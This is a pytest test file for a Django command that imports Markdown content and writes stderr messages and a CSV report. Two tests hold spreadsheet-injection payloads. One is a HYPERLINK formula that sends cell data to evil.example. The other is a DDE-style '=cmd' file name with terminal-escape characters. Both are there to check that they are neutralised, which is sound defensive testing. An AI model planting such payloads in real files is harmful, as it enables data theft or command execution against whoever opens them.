"""The report of an import: on standard error, in the counts, and in the CSV file."""

import csv
from pathlib import Path

import pytest
from django.core.management import CommandError

from curation.interchange.remarks import RemarkKind
from curation.models import Article
from tests.interchange.conftest import a_file, run
from tests.interchange.readers import content_file

BASE = {"title": "Beds", "date": "2024-03-04"}
COLUMNS = ["file", "line", "column", "kind", "key", "what was done", "what to do"]


@pytest.fixture
def site(folder):
    """A folder of an old site with a file for each of several kinds of remark."""
    texts = {
        "news/hidden.md": content_file({**BASE, "unlisted": True}),
        "news/hidden-too.md": content_file({**BASE, "private": "yes"}),
        "news/undated.md": content_file({"title": "No date"}),
        "news/later.md": content_file({**BASE, "publishDate": "2090-01-01"}),
        "news/keys.md": content_file({**BASE, "toc": True, "weight": 3}),
        "news/keys-too.md": content_file({**BASE, "TOC": False}),
        "news/cut.md": content_file({**BASE, "title": "x" * 600}),
        "news/twin.md": content_file({**BASE, "slug": "keys"}),
        "news/lost.md": content_file({**BASE, "aliases": ["/admin/x", "/feed/"]}),
        "news/bad.md": "---\ntitle: 'open\n---\n",
        "news/notes.org": "#+title: Notes\n",
        "unfiled.md": content_file(BASE),
    }
    for name, text in texts.items():
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
    return folder


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def kinds_of(path: Path) -> dict[str, int]:
    found: dict[str, int] = {}
    for row in rows_of(path)[1:]:
        found[row[3]] = found.get(row[3], 0) + 1
    return found


# ------------------------------------------------------------------------ standard error


def test_a_run_tells_each_remark_with_its_file(db, site):
    ran = run("import_content", site)
    assert ran.code == 1
    assert ran.out == "10 created, 0 updated, 0 unchanged, 1 failed"
    told = ran.err.splitlines()
    for expected in (
        "news/hidden.md: unlisted: the old site did not show it to all (unlisted); imported as a",
        "news/undated.md: date: there is no date; imported as a draft; write the day it was",
        "news/later.md: date: it will be published on 2090-01-01 00:00 UTC",
        "news/cut.md: title: this has 600 characters; at most 500 are allowed; it was cut",
        "news/lost.md: aliases: '/admin/x' is an address that the site itself uses; left out",
        "news/twin.md: slug: /news/keys is an address of “Beds” (news/keys.md); this article is",
        "news/bad.md:2:8: This is not YAML",
        "news/notes.org: left out: texts in the form .org are not read; convert it to Markdown",
        "unfiled.md: it lies in no section's folder; put into the section pages; choose another",
    ):
        assert [line for line in told if line.startswith(f"{site}/{expected}")], expected


def test_what_nearly_every_file_has_is_told_once_for_each_key(db, site):
    told = run("import_content", site).err.splitlines()
    toc = [line for line in told if "toc: this key" in line.lower()]
    assert len(toc) == 1
    assert toc[0].endswith("(and 1 more like this)")
    assert len([line for line in told if "weight: this key" in line]) == 1


def test_a_run_with_nothing_to_say_says_nothing(bring):
    ran = bring(a_file())
    assert (ran.code, ran.err) == (0, "")


def test_a_second_run_does_not_repeat_what_was_said_of_unchanged_files(db, site):
    run("import_content", site)
    again = run("import_content", site)
    assert again.out == "0 created, 0 updated, 10 unchanged, 1 failed"
    assert "unlisted" not in again.err
    assert "bad.md" in again.err


# ------------------------------------------------------------------------ --dry-run


def test_a_dry_run_counts_by_kind_with_an_example_each(db, site, tmp_path):
    report = tmp_path / "report.csv"
    dry = run("import_content", site, dry_run=True, report=report)
    assert dry.code == 1
    assert not Article.objects.exists()
    *lines, last = dry.out.splitlines()
    assert last == "10 created, 0 updated, 0 unchanged, 1 failed (dry run)"
    counts = {label: int(number) for number, label in
              (line.split(maxsplit=1) for line in lines[::2])}  # fmt: skip
    expected = kinds_of(report)
    assert counts == {str(RemarkKind(kind).label): number for kind, number in expected.items()}
    assert counts["hidden: imported as a draft"] == 2
    assert counts["a key was not understood"] == 3
    assert counts["a file was left out"] == 1
    assert counts["a file could not be imported"] == 1
    assert sorted(counts.values(), reverse=True) == list(counts.values())
    examples = lines[1::2]
    assert all(line.strip().startswith(f"for example {site}/") for line in examples)
    # Only what fails is told at once.
    assert [line for line in dry.err.splitlines() if "bad.md" not in line] == []


def test_a_real_run_makes_the_same_report_as_the_dry_one_before(db, site, tmp_path):
    run("import_content", site, dry_run=True, report=tmp_path / "dry.csv")
    run("import_content", site, report=tmp_path / "real.csv")
    dry, real = kinds_of(tmp_path / "dry.csv"), kinds_of(tmp_path / "real.csv")
    # Addresses are made in the database, so a dry run knows them only in part.
    assert {kind for kind in dry if dry[kind] != real.get(kind)} <= {"address-made", "address-lost"}


# ------------------------------------------------------------------------ --report


def test_the_csv_file_has_a_line_for_every_remark(db, site, tmp_path):
    report = tmp_path / "report.csv"
    run("import_content", site, report=report)
    first, *rows = rows_of(report)
    assert first == COLUMNS
    assert [str(site / "news/bad.md"), "2", "8", "failed", ""] in [row[:5] for row in rows]
    hidden = next(row for row in rows if row[0].endswith("/hidden.md"))
    assert hidden[3:5] == ["hidden", "unlisted"]
    assert hidden[5].startswith("the old site did not show it to all")
    assert hidden[6] == "publish it at the desk if readers may see it"
    assert {row[3] for row in rows} <= set(RemarkKind.values)
    # What is told once on the screen is here for each file.
    assert sorted(row[4] for row in rows if row[3] == "unknown-key") == ["TOC", "toc", "weight"]


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"], ids=lambda sign: ascii(sign)
)
def test_no_cell_of_the_csv_file_is_a_formula(sign, db, folder, tmp_path):
    """A spreadsheet would run it when whoever moves in opens the report."""
    formula = f'{sign}HYPERLINK("https://evil.example/?"&A1,"Click")'
    text = content_file({**BASE, formula: "x", "status": formula, "aliases": [f"../{formula}"]},
                        "json")  # fmt: skip
    (folder / "a.md").write_text(text)
    report = tmp_path / "report.csv"
    assert run("import_content", folder, report=report).code == 0
    cells = [cell for row in rows_of(report) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝＋－＠\t\r"))] == []


def test_a_hostile_name_stays_on_one_line_of_the_report(db, folder, tmp_path):
    name = "a\n\x1b[2J\u202egpj.md"
    (folder / name).write_text("no front matter")
    (folder / '=cmd|" calc"!A0.md').write_text("no front matter")
    report = tmp_path / "report.csv"
    ran = run("import_content", folder, report=report)
    assert len(rows_of(report)) == 3
    for text in (ran.err, report.read_text()):
        assert not {"\x1b", "\u202e"} & set(text)
    assert len(ran.err.splitlines()) == 2


def test_a_report_that_cannot_be_written_ends_the_run_before_it_begins(db, site, tmp_path):
    for path in (tmp_path / "nowhere" / "report.csv", tmp_path):
        with pytest.raises(CommandError, match="^--report: .*"):
            run("import_content", site, report=path)
    assert not Article.objects.exists()


def test_a_report_is_written_also_where_the_run_fails(db, folder, tmp_path):
    (folder / "a.md").write_text("bad")
    report = tmp_path / "report.csv"
    assert run("import_content", folder, report=report).code == 1
    assert kinds_of(report) == {"failed": 1}


# ------------------------------------------------------------------------ options


@pytest.mark.parametrize("section", ["news", "/news/", "news/beds"])
def test_section_says_where_files_without_a_section_go(section, db, folder):
    (folder / "a.md").write_text(content_file(BASE))
    (folder / "research").mkdir()
    (folder / "research" / "b.md").write_text(content_file({**BASE, "title": "Research"}))
    ran = run("import_content", folder, section=section)
    assert ran.code == 0
    found = dict(Article.objects.values_list("title", "section__path"))
    assert found == {"Beds": section.strip("/"), "Research": "research"}


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"section": "admin"}, "--section: The site itself uses the address /admin/"),
        ({"section": "Two Words"}, "--section: 'Two Words' is not a section's path"),
        ({"section": "../etc"}, "--section: '../etc' is not a section's path"),
        ({"section": "x" * 200}, "--section: "),
        ({"section": "news/feed"}, "--section: The site itself uses the address"),
        ({"old_address": "/year/slug/"}, "--old-address: write a pattern such as"),
        ({"media": "/nowhere"}, "--media: /nowhere is no folder"),
        ({"source": "x" * 101}, "--source: "),
        ({"source": "a\nb"}, "--source: "),
        ({"old_address": "/:yaer/:slug/"}, "--old-address: ':yaer' is no part"),
    ],
)
def test_an_option_that_cannot_be_right_is_said_at_once(options, words, db, folder):
    (folder / "a.md").write_text(content_file(BASE))
    with pytest.raises(CommandError) as error:
        run("import_content", folder, **options)
    assert str(error.value).startswith(words)
    assert "\n" not in str(error.value)
    assert not Article.objects.exists()


def test_old_address_says_where_the_old_site_served_its_pages(db, folder, client):
    (folder / "a.md").write_text(content_file({**BASE, "slug": "beds", "date": "2019-05-06"}))
    ran = run("import_content", folder, old_address="/:year/:month/:slug/")
    assert ran.code == 0
    answer = client.get("/2019/05/beds/")
    assert (answer.status_code, answer["Location"]) == (301, Article.objects.get().path)
    assert "/2019/05/beds/, its old address, leads to" in ran.err


def test_an_old_address_that_another_article_has_is_told(db, folder, client):
    for name in ("a", "b"):
        text = content_file({**BASE, "title": name, "slug": "beds"})
        (folder / f"{name}.md").write_text(text)
    ran = run("import_content", folder, old_address="/:year/:slug/")
    assert ran.code == 0
    assert "b.md: aliases: /2024/beds is an address of “a” (a.md); left out" in ran.err


def test_entries_that_are_data_are_left_out_and_named(db, folder):
    (folder / "entry.json").write_text('{"title": "Beds", "body": "Text"}')
    (folder / "entry.yml").write_text("title: Beds\n")
    ran = run("import_content", folder)
    assert ran.out == "0 created, 0 updated, 0 unchanged, 0 failed"
    assert "entry.json: left out: files in the form .json are not read" in ran.err
    assert "entry.yml: left out: files in the form .yml are not read" in ran.err
